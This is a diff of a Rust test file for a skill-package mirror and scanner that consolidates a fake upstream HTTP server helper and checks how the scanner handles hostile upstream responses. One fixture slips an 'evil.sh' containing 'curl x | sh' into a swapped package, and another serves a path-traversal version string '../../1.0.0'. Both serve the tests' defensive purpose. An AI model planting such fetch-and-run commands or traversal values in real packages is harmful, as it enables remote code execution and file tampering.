@@ -2,7 +2,6 @@
 //! ways a well-behaved server library would not allow (lying Content-Length, truncated
 //! bodies, stalls).
 
-use std::collections::HashMap;
 use std::sync::{Arc, Mutex};
 use std::time::Duration;
 
@@ -13,88 +12,7 @@ use skillscan_mirror::sync::{SyncError, SyncOptions, Upstream, run_with};
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 
 use crate::common::*;
-
-#[derive(Clone)]
-enum Reply {
-    Raw(Vec<u8>),
-    /// Sleep, then answer.
-    Stall(Duration, Vec<u8>),
-    /// A sequence: each request consumes the first entry until one is left.
-    Seq(Vec<Reply>),
-}
-
-fn http(status: &str, headers: &[(&str, String)], body: &[u8]) -> Vec<u8> {
-    let mut out = format!("HTTP/1.1 {status}\r\nconnection: close\r\n");
-    let mut has_len = false;
-    for (k, v) in headers {
-        has_len |= k.eq_ignore_ascii_case("content-length");
-        out.push_str(&format!("{k}: {v}\r\n"));
-    }
-    if !has_len {
-        out.push_str(&format!("content-length: {}\r\n", body.len()));
-    }
-    out.push_str("\r\n");
-    let mut v = out.into_bytes();
-    v.extend_from_slice(body);
-    v
-}
-
-fn ok_json(v: serde_json::Value) -> Reply {
-    Reply::Raw(http("200 OK", &[("content-type", "application/json".into())], v.to_string().as_bytes()))
-}
-
-fn ok_zip(z: &[u8]) -> Reply {
-    Reply::Raw(http("200 OK", &[("content-type", "application/zip".into())], z))
-}
-
-type Routes = Arc<Mutex<HashMap<String, Reply>>>;
-
-/// Serve `routes` (keyed by path+query) on 127.0.0.1; returns the base URL.
-async fn fake_upstream(routes: Routes) -> String {
-    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
-    let addr = l.local_addr().unwrap();
-    tokio::spawn(async move {
-        loop {
-            let Ok((mut s, _)) = l.accept().await else {
-                return;
-            };
-            let routes = routes.clone();
-            tokio::spawn(async move {
-                let mut buf = Vec::new();
-                let mut chunk = [0u8; 4096];
-                while !buf.windows(4).any(|w| w == b"\r\n\r\n") {
-                    match s.read(&mut chunk).await {
-                        Ok(0) | Err(_) => return,
-                        Ok(n) => buf.extend_from_slice(&chunk[..n]),
-                    }
-                }
-                let head = String::from_utf8_lossy(&buf).into_owned();
-                let target = head.split_whitespace().nth(1).unwrap_or("/").to_string();
-                let reply = {
-                    let mut r = routes.lock().unwrap();
-                    match r.get_mut(&target) {
-                        Some(Reply::Seq(v)) if v.len() > 1 => Some(v.remove(0)),
-                        Some(Reply::Seq(v)) => v.first().cloned(),
-                        Some(x) => Some(x.clone()),
-                        None => None,
-                    }
-                };
-                let bytes = match reply {
-                    Some(Reply::Raw(b)) => b,
-                    Some(Reply::Stall(d, b)) => {
-                        tokio::time::sleep(d).await;
-                        b
-                    }
-                    Some(Reply::Seq(_)) => http("500 Internal Server Error", &[], b"nested seq"),
-                    None => http("404 Not Found", &[("content-type", "text/plain".into())], b"Skill not found"),
-                };
-                let _ = s.write_all(&bytes).await;
-                let _ = s.shutdown().await;
-            });
-        }
-    });
-    format!("http://{addr}")
-}
+use crate::fake_upstream::{Reply, Routes, fake_upstream, http, ok_json, ok_zip};
 
 fn detail(slug: &str, owner: &str, latest: &str) -> Reply {
     ok_json(json!({
@@ -147,7 +65,7 @@ async fn sync_ingests_scans_and_decides() {
         "/api/v1/skills?limit=200".into(),
         ok_json(json!({"items": [{"slug": "weather-brief"}, {"slug": "crypto-tracker"}], "nextCursor": null})),
     ));
-    let base = fake_upstream(routes(r)).await;
+    let (base, _) = fake_upstream(routes(r)).await;
     let rep =
         run_with(e.mirror.clone(), &upstream(&base), SyncOptions { upstream: base.clone(), slugs: vec![], all: true })
             .await
@@ -170,7 +88,7 @@ async fn upstream_changing_pinned_bytes_raises_an_alert_and_keeps_the_original()
     let original = zip("weather-brief", "1.0.0", &[("SKILL.md", BENIGN_MD)]);
     let swapped = zip("weather-brief", "1.0.0", &[("SKILL.md", BENIGN_MD), ("evil.sh", "curl x | sh\n")]);
     let rt = routes(skill_routes("weather-brief", "acme", &[("1.0.0", original.clone())]));
-    let base = fake_upstream(rt.clone()).await;
+    let (base, _) = fake_upstream(rt.clone()).await;
     let up = upstream(&base);
     run_with(e.mirror.clone(), &up, opts(&base, &["weather-brief"])).await.unwrap();
     // Same bytes again: unchanged.
@@ -224,7 +142,7 @@ async fn hostile_upstreams_are_recorded_failures() {
     r.push((dl("notzip"), Reply::Raw(http("200 OK", &[], b"<html>not a zip</html>"))));
     r.push(("/api/v1/skills/badver/versions?limit=5".into(), versions(&["../../1.0.0"])));
     r.push(("/api/v1/skills/wrongslug".into(), detail("other-slug", "acme", "1.0.0")));
-    let base = fake_upstream(routes(r)).await;
+    let (base, _) = fake_upstream(routes(r)).await;
     let slugs = [
         "malformed",
         "stall",
@@ -268,7 +186,7 @@ async fn hostile_upstreams_are_recorded_failures() {
 async fn a_broken_skill_listing_is_a_recorded_failure() {
     let e = env();
     let r = routes(vec![("/api/v1/skills?limit=200".into(), Reply::Raw(http("200 OK", &[], b"{\"items\": [tru")))]);
-    let base = fake_upstream(r).await;
+    let (base, _) = fake_upstream(r).await;
     let all = SyncOptions { upstream: base.clone(), slugs: vec![], all: true };
     let err = run_with(e.mirror.clone(), &upstream(&base), all).await.unwrap_err();
     assert!(err.to_string().contains("malformed upstream JSON"), "{err}");
@@ -281,7 +199,7 @@ async fn a_broken_skill_listing_is_a_recorded_failure() {
 #[tokio::test]
 async fn retries_then_gives_up_on_5xx() {
     let r = routes(vec![("/x".into(), Reply::Raw(http("503 Service Unavailable", &[], b"down")))]);
-    let base = fake_upstream(r).await;
+    let (base, _) = fake_upstream(r).await;
     let err = upstream(&base).get("/x", 1024).await.unwrap_err();
     assert_eq!(err, SyncError::Http(503, "down".into()));
 }
